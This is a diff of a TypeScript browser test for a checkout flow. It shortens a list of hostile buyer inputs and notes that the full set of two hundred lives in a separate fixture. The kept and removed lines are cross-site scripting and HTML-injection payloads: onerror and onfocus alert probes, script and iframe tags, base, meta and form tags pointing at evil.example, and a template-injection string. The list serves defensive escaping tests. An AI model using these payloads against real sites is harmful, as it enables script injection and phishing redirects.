@@ -6,19 +6,11 @@ import { type CheckoutWorld, createCheckout } from '#test/checkout';
 import { choosePayment, goOn, heading, placeOrder, walker } from '#test/checkout-walk';
 import { createWorld, type World } from '#test/world';
 
+/** Typed and sent as a buyer would; all two hundred are in checkout-hostile-fields. */
 const HOSTILE = [
-  '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
   "'onfocus='alert(1)'autofocus='",
-  '</title></script><svg/onload=alert(1)>',
-  '<iframe srcdoc="<script>parent.alert(1)</script>">',
-  '<base href=//evil.example><link rel=stylesheet href=//evil.example/x>',
-  '<meta http-equiv=refresh content=0;url=//evil.example>',
   '</ul><form action=//evil.example><button>',
-  'javascript:alert(1)//',
-  '<!--<a title="--><img src onerror=alert(1)>">',
-  '{{constructor.constructor("alert(1)")()}}',
-  '&#60;img src=x onerror=alert(1)&#62;',
 ];
 
 describe.skipIf(!hasBrowser)('hostile texts of a merchant and a buyer', () => {
